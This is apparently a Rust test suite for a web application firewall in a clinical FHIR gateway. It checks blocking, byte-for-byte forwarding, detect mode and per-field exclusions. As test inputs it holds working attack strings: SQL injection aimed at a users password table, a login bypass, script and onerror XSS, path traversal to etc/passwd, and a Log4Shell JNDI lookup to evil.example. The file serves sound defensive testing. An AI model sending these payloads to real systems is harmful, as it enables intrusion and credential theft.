//! The inspect phase through the gateway: attacks refused with 403 before any department sees
//! them, clinical traffic forwarded byte for byte, detect mode, large bodies, exclusions.

use bytes::Bytes;
use http::Request;

use crate::support::{TestGateway, full};

/// The testdata folder of the repository.
fn testdata(path: &str) -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../testdata")
        .join(path)
}

/// Assert a 403 from the firewall that names the request id and not the payload.
fn assert_blocked(answer: &crate::support::Answer, payload: &str) {
    assert_eq!(
        answer.status,
        403,
        "{:?}",
        String::from_utf8_lossy(&answer.body)
    );
    assert_eq!(answer.outcome_code(), "wardgate.waf.blocked");
    let text = String::from_utf8_lossy(&answer.body);
    let request_id = answer.headers["x-request-id"].to_str().unwrap();
    assert!(text.contains(request_id), "{text}");
    assert!(!text.contains(payload), "the payload was echoed: {text}");
}

#[tokio::test]
async fn attacks_in_query_json_body_path_and_header_never_reach_the_department() {
    let gateway = TestGateway::start().await;
    let mut client = gateway.client(b"http/1.1").await;

    let sqli = client
        .get("/emergency/fhir/Patient?name=x%27%20UNION%20SELECT%20password%20FROM%20users--")
        .await;
    assert_blocked(&sqli, "UNION SELECT");

    let xss = client
        .send_body(
            "POST",
            "/emergency/fhir/Observation",
            "application/fhir+json",
            r#"{"resourceType":"Observation","status":"final","note":[{"text":"<script>alert(document.cookie)</script>"}]}"#,
        )
        .await;
    assert_blocked(&xss, "<script>");

    let traversal = client
        .get("/emergency/files/..%252f..%252f..%252fetc/passwd")
        .await;
    assert_blocked(&traversal, "etc/passwd");

    let request = Request::get("/emergency/api/version")
        .header("host", "localhost")
        .header("x-api-version", "${jndi:ldap://evil.example/a}")
        .body(full(Bytes::new()))
        .unwrap();
    let header = client.send(request).await.unwrap();
    assert_blocked(&header, "jndi");

    assert_eq!(gateway.upstream.seen(), 0);

    // The verdicts are in the record (with a bounded excerpt) and in the metrics.
    let records = gateway.records(6).await;
    let blocked: Vec<_> = records
        .iter()
        .filter(|r| r["code"] == "wardgate.waf.blocked")
        .collect();
    assert_eq!(blocked.len(), 4);
    let classes: Vec<&str> = blocked
        .iter()
        .map(|r| r["waf"]["class"].as_str().unwrap())
        .collect();
    assert_eq!(classes, ["sqli", "xss", "lfi", "log4shell"]);
    assert_eq!(blocked[0]["waf"]["location"], "query:name");
    assert_eq!(blocked[1]["waf"]["location"], "body:$.note[0].text");
    assert_eq!(blocked[3]["waf"]["location"], "header:x-api-version");
    assert_eq!(blocked[0]["phases"]["inspect"]["verdict"], "refused");
    assert_eq!(blocked[0]["phases"]["forward"]["verdict"], "skipped");
    assert_eq!(blocked[0]["principal"]["name"], "test.physician");
    let (_, metrics) = gateway.admin_get("/metrics").await;
    assert!(
        metrics.contains("wardgate_waf_verdicts_total{class=\"sqli\",outcome=\"blocked\"} 1"),
        "{metrics}"
    );
}

#[tokio::test]
async fn identity_endpoints_are_inspected_too() {
    let gateway = TestGateway::start().await;
    let mut client = gateway.anonymous(b"http/1.1").await;
    let answer = client
        .post_form(
            "/auth/login",
            &[("username", "admin' OR '1'='1' --"), ("password", "x")],
        )
        .await;
    assert_blocked(&answer, "OR '1'='1");
}

#[tokio::test]
async fn clinical_resources_pass_as_creates_and_updates_byte_for_byte() {
    let gateway = TestGateway::start().await;
    let mut client = gateway.client(b"http/1.1").await;
    let mut sent = 0;
    for (file, every) in [
        ("fhir/resources/authored-edge-cases.jsonl", 1),
        ("fhir/resources/hl7-r4-examples.jsonl", 40),
        ("fhir/resources/inferno-us-core.jsonl", 40),
        ("fhir/resources/synthea-smart-sandbox.jsonl", 200),
    ] {
        let text = std::fs::read_to_string(testdata(file)).unwrap();
        for line in text.lines().step_by(every) {
            // The test policy's body limit is 64 KiB.
            if line.len() > 60 * 1024 {
                continue;
            }
            let resource: serde_json::Value = serde_json::from_str(line).unwrap();
            let ty = resource["resourceType"].as_str().unwrap();
            let id = resource["id"].as_str().unwrap_or("new");
            for (method, path) in [
                ("POST", format!("/emergency/fhir/{ty}")),
                ("PUT", format!("/emergency/fhir/{ty}/{id}")),
            ] {
                let answer = client
                    .send_body(method, &path, "application/fhir+json", line.to_owned())
                    .await;
                assert_eq!(
                    answer.status,
                    200,
                    "{method} {path} from {file}: {}",
                    String::from_utf8_lossy(&answer.body)
                );
                let echo = answer.json();
                assert_eq!(echo["body"], line, "{method} {path}: the body changed");
                assert_eq!(echo["uri"], format!("/base{}", &path["/emergency".len()..]));
                sent += 1;
            }
        }
    }
    assert!(sent > 150, "only {sent} requests");
    assert_eq!(gateway.upstream.seen(), sent);
}

#[tokio::test]
async fn clinical_transactions_pass_entry_by_entry_and_byte_for_byte() {
    let gateway = TestGateway::start().await;
    let mut client = gateway.client(b"http/1.1").await;
    let mut sent = 0;
    for entry in std::fs::read_dir(testdata("fhir/bundles")).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        let bundle: serde_json::Value = serde_json::from_str(&text).unwrap();
        // The test policy's body limit is 64 KiB; documents are not posted to a base.
        if text.len() > 60 * 1024 || bundle["type"] != "transaction" {
            continue;
        }
        let answer = client
            .send_body(
                "POST",
                "/emergency/fhir",
                "application/fhir+json",
                text.clone(),
            )
            .await;
        assert_eq!(
            answer.status,
            200,
            "{}: {}",
            path.display(),
            String::from_utf8_lossy(&answer.body)
        );
        assert_eq!(answer.json()["body"], text);
        sent += 1;
    }
    assert!(sent >= 3, "only {sent} bundles");
}

#[tokio::test]
async fn clinical_search_requests_reach_the_upstream_unchanged() {
    let gateway = TestGateway::start().await;
    let mut client = gateway.client(b"http/1.1").await;
    let text = std::fs::read_to_string(testdata("fhir/requests/benign-requests.jsonl")).unwrap();
    let mut sent = 0;
    for line in text.lines() {
        let request: serde_json::Value = serde_json::from_str(line).unwrap();
        let method = request["method"].as_str().unwrap();
        let path = request["path"].as_str().unwrap();
        // FHIR requests; bulk export is closed by policy to everyone (not a firewall matter).
        if !path.starts_with("/fhir") || path.contains("$export") {
            continue;
        }
        let body = match &request["body"] {
            serde_json::Value::Null => String::new(),
            serde_json::Value::String(s) => s.clone(),
            other => other.to_string(),
        };
        if path == "/fhir" && body.is_empty() {
            continue;
        }
        let target = format!("/emergency{path}");
        let mut builder = Request::builder()
            .method(method)
            .uri(target.as_str())
            .header("host", "localhost");
        if let Some(headers) = request["headers"].as_object() {
            for (name, value) in headers {
                builder = builder.header(name.as_str(), value.as_str().unwrap());
            }
        }
        let answer = client
            .send(builder.body(full(body.clone())).unwrap())
            .await
            .unwrap();
        assert_eq!(
            answer.status,
            200,
            "{method} {path}: {}",
            String::from_utf8_lossy(&answer.body)
        );
        let echo = answer.json();
        assert_eq!(echo["uri"], format!("/base{path}"), "{method} {path}");
        assert_eq!(echo["body"], body, "{method} {path}");
        sent += 1;
    }
    assert!(sent >= 30, "only {sent} requests");
}

#[tokio::test]
async fn detect_mode_forwards_and_records_what_it_would_block() {
    let gateway = TestGateway::start_with("[waf]\nmode = \"detect\"", None).await;
    let mut client = gateway.client(b"http/1.1").await;
    let answer = client
        .get("/emergency/fhir/Patient?name=x%27%20UNION%20SELECT%20password%20FROM%20users--")
        .await;
    assert_eq!(answer.status, 200);
    assert_eq!(gateway.upstream.seen(), 1);
    let records = gateway.records(3).await;
    let record = records
        .iter()
        .find(|r| r["path"] == "/emergency/fhir/Patient")
        .unwrap();
    assert_eq!(record["decision"], "forwarded");
    assert_eq!(record["waf"]["outcome"], "detected");
    assert_eq!(record["waf"]["mode"], "detect-only");
    assert_eq!(record["waf"]["class"], "sqli");
    let (_, metrics) = gateway.admin_get("/metrics").await;
    assert!(
        metrics.contains("wardgate_waf_verdicts_total{class=\"sqli\",outcome=\"detected\"} 1"),
        "{metrics}"
    );
}

#[tokio::test]
async fn an_attack_at_the_end_of_a_large_body_is_found() {
    let gateway = TestGateway::start().await;
    let mut client = gateway.client(b"http/1.1").await;
    let filler = "Patient stable overnight, observations within normal limits. ".repeat(700);
    let body = format!(
        r#"{{"resourceType":"Observation","status":"final","note":[{{"text":"{filler}"}},{{"text":"<img src=x onerror=alert(1)>"}}]}}"#
    );
    assert!(body.len() > 30 * 1024);
    let answer = client
        .send_body(
            "POST",
            "/emergency/fhir/Observation",
            "application/fhir+json",
            body,
        )
        .await;
    assert_blocked(&answer, "onerror");
    assert_eq!(gateway.upstream.seen(), 0);
}

#[tokio::test]
async fn a_policy_exclusion_lets_its_field_through_and_nothing_else() {
    let extra = "[[waf.exclusions]]\ndepartment = \"emergency\"\npath_prefix = \"/emergency/fhir/DocumentReference\"\nlocation = \"body:$.description\"\ndetectors = [\"xss\"]\n";
    let gateway = TestGateway::start_with(extra, None).await;
    let mut client = gateway.client(b"http/1.1").await;
    let excluded = r#"{"resourceType":"DocumentReference","status":"current","description":"<script>alert(1)</script>"}"#;
    let answer = client
        .send_body(
            "POST",
            "/emergency/fhir/DocumentReference",
            "application/fhir+json",
            excluded,
        )
        .await;
    assert_eq!(answer.status, 200);
    assert_eq!(answer.json()["body"], excluded);
    // Another field of the same resource, and the same field elsewhere, are still judged.
    let other_field = r#"{"resourceType":"DocumentReference","status":"current","securityLabel":[{"text":"<script>alert(1)</script>"}]}"#;
    let answer = client
        .send_body(
            "POST",
            "/emergency/fhir/DocumentReference",
            "application/fhir+json",
            other_field,
        )
        .await;
    assert_blocked(&answer, "<script>");
    let elsewhere = excluded.replace("DocumentReference", "Observation");
    let answer = client
        .send_body(
            "POST",
            "/emergency/fhir/Observation",
            "application/fhir+json",
            elsewhere,
        )
        .await;
    assert_blocked(&answer, "<script>");
    assert_eq!(gateway.upstream.seen(), 1);
}
